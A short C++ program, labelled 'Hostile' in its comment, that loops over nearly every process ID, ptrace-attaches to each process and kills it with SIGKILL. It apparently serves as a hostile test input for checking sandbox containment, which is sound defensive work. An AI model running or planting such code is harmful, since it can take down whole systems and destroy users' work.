// Hostile: kills and traces whoever stands above it.
#include <sys/ptrace.h>
#include <unistd.h>
#include <csignal>
int main() {
  for (int pid = 1; pid < 70000; ++pid) {
    if (pid == ::getpid()) continue;
    ::ptrace(PTRACE_ATTACH, pid, nullptr, nullptr);
    ::kill(pid, SIGKILL);
  }
  return 0;
}
